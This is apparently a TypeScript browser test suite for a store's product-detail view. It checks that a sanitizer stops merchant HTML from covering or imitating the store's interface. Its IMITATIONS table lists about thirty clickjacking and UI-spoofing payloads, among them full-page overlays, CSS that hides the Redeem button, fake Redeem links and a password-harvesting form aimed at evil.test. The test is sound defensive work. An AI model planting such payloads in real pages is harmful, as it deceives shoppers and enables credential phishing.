import {expect} from '@open-wc/testing';
import '../../src/define/all.ts';
import {safeHtml} from '../../src/content/safe-html.ts';
import type {StoreElement} from '../../src/elements/store.ts';
import {aGateway} from '../support/gateway.ts';
import {part, within} from '../support/look.ts';
import {aProductRecord} from '../support/record.ts';
import {cardsOf, inside, openStore} from '../support/store.ts';
import {until} from '../support/until.ts';

/** How merchants could lay something over what is the store's own, or make theirs look like it. */
const IMITATIONS: Readonly<Record<string, string>> = {
  'fixed over everything': '<div style="position:fixed;inset:0;z-index:9;background:red">x</div>',
  'absolute over what is above': '<p style="position:absolute;top:-400px;left:-400px;width:2000px;height:2000px">x</p>',
  'sticky at the top': '<p style="position:sticky;top:0;margin-top:-300px;z-index:9">x</p>',
  'drawn larger than it is': '<p style="transform:scale(40)">x</p>',
  'moved by a margin': '<p style="position:relative;margin:-900px;padding:900px">x</p>',
  'a picture larger than the page': '<img src="https://pictures.test/a.png" width="99999" height="99999" alt="x" style="position:fixed;inset:0">',
  'a table larger than the page': '<table width="9999" height="9999" style="position:absolute;top:-900px"><tr><td>x</td></tr></table>',
  'a dialog': '<dialog open style="position:fixed;inset:0;width:100%;height:100%">x</dialog>',
  'a popover': '<div popover style="display:block;inset:0;width:100%;height:100%">x</div>',
  'a frame': '<iframe src="about:blank" style="position:fixed;inset:0;width:100%;height:100%"></iframe>',
  'an object': '<object style="position:fixed;inset:0;width:100vw;height:100vh">x</object>',
  'a drawing': '<svg style="position:fixed;inset:0;width:100vw;height:100vh"><rect width="9999" height="9999"/></svg>',
  'a drawing with words': '<svg style="position:fixed;inset:0" width="9999" height="9999"><foreignObject width="9999" height="9999"><p>x</p></foreignObject></svg>',
  'a formula': '<math style="position:fixed;inset:0;width:100vw;height:100vh"><mtext>x</mtext></math>',
  'a link over everything': '<a href="https://evil.test/" style="position:fixed;inset:0">x</a>',
  'a field over everything': '<textarea style="position:fixed;inset:0;width:100vw;height:100vh">x</textarea>',
  'a choice over everything': '<select size="9" style="position:fixed;inset:0;width:100vw;height:100vh"><option>x</select>',
  'a film over everything': '<video controls style="position:fixed;inset:0;width:100vw;height:100vh"></video>',
  'a sheet that hides the store’s button': '<style>[part=redeem]{visibility:hidden}</style>x',
  'a sheet that moves everything': '<style>*{transform:translate(40px,40px)}</style>x',
  'a sheet that recolours': '<style>.action{background:red!important;color:red!important}</style>x',
  'the store’s own button': '<button part="redeem" class="action">Redeem</button>',
  'the store’s own class': '<a class="action" href="https://evil.test/">Redeem</a>',
  'the store’s own part': '<a part="redeem" href="https://evil.test/">Redeem</a>',
  'the store’s own title': '<div id="title">Another product</div>',
  'the store’s own form': '<form action="https://evil.test/"><input name="phone"><input type="password"></form>',
  'an element of the store’s': '<rai-store-redeem></rai-store-redeem><rai-price></rai-price>',
  'a button by its role': '<div role="button" tabindex="0" aria-label="Redeem">x</div>',
  'an alert': '<p role="alert" aria-live="assertive">Your session has ended.</p>',
  'words that are edited': '<p contenteditable="true" autofocus tabindex="0">x</p>',
  'words in another’s place': '<p slot="header" part="title">x</p>',
  'words that run': '<marquee width="9999" height="9999" style="position:fixed;inset:0">x</marquee>',
}; // prettier-ignore

/** How far apart the points are that are looked at, in px. */
const STEP = 32;

/** What of a thing of the store’s own is compared, besides its place and size. */
const LOOKS = [
  'color', 'background-color', 'border-color', 'display', 'visibility', 'opacity', 'position', 'z-index', 'transform', 'filter',
  'pointer-events', 'font-size', 'font-family', 'text-decoration-line', 'cursor',
]; // prettier-ignore

describe('S5: merchant HTML in the detail of a product', () => {
  let detail: HTMLElement;
  let prose: HTMLElement;

  let store: StoreElement;
  let usual: Record<string, string>;

  before(async () => {
    store = await openStore(aGateway({products: [aProductRecord()]}));
    // It stays from the first test to the last, not as what is there for one test alone.
    document.body.append(store);
    part(cardsOf(store)[0]!, 'name')!.click();
    detail = await until('the detail', () => inside(store, 'rai-product-detail'));
    prose = await until('the description', () => within(detail, 'details') && within(detail, '.prose'));
    await Promise.all(
      within(detail, 'dialog')!
        .getAnimations()
        .map(({finished}) => finished),
    );
    // Its content makes it higher or lower, and all below it with it; so it keeps one height.
    prose.style.setProperty('height', '60px');
    prose.replaceChildren('Words');
    usual = around();
  });

  after(() => store.remove());

  /** What is hit at each point of the window that is not in the description’s place, and how the store’s own things look. */
  function around(): Record<string, string> {
    const {left, top, right, bottom} = prose.getBoundingClientRect();
    const found: Record<string, string> = {};
    for (let x = 5; x < innerWidth; x += STEP) {
      for (let y = 5; y < innerHeight; y += STEP) {
        if (x >= left && x <= right && y >= top && y <= bottom) continue;
        found[`${x} ${y}`] = nameOf(at(x, y));
      }
    }
    for (const own of ['[part=redeem]', '#title', '.close', '.column']) {
      const element = within(detail, own)!;
      const style = getComputedStyle(element);
      const {x, y, width, height} = element.getBoundingClientRect();
      found[own] = [x, y, width, height, ...LOOKS.map((name) => style.getPropertyValue(name))].join();
    }
    return found;
  }

  /** What in the description could be taken for the store’s own, or be used as that. */
  const imitations = () =>
    [...prose.querySelectorAll<HTMLElement>('*')].filter((element) => {
      const {position, opacity, transform, zIndex} = getComputedStyle(element);
      const isPlaced = [position, opacity, transform, zIndex].join() !== 'static,1,none,auto';
      const isUsable = element.tabIndex >= 0 && !element.matches('a[href][target=_blank]');
      const isNamed = element.matches('[class], [id], [part], [slot], [name], [role], [style]');
      return isPlaced || isUsable || isNamed || element.localName.includes('-');
    });

  it('is tried in thirty ways, at many points', () => {
    expect(Object.keys(IMITATIONS)).to.have.lengthOf.at.least(30);
    expect(Object.keys(usual)).to.have.lengthOf.above(300);
    expect(new Set(Object.values(usual)).size).to.be.above(8);
  });

  for (const [what, html] of Object.entries(IMITATIONS)) {
    it(`covers nothing of the store’s and is taken for nothing of it: ${what}`, () => {
      prose.replaceChildren(safeHtml(html));

      expect(around()).to.deep.equal(usual);
      expect(imitations()).to.deep.equal([]);
    });

    it(`would be seen doing so: ${what}`, () => {
      prose.innerHTML = html;

      const seen = imitations().length > 0 || JSON.stringify(around()) !== JSON.stringify(usual);
      prose.replaceChildren();
      expect(seen).to.equal(true);
    });
  }
});

/** What a pointer meets there, in whatever shadow tree. */
function at(x: number, y: number): Element {
  let hit = document.elementFromPoint(x, y)!;
  for (let next = hit.shadowRoot?.elementFromPoint(x, y); next && next !== hit;) {
    hit = next;
    next = hit.shadowRoot?.elementFromPoint(x, y);
  }
  return hit;
}

const nameOf = (element: Element) =>
  [element.localName, element.getAttribute('part'), element.className, element.id].join('|');
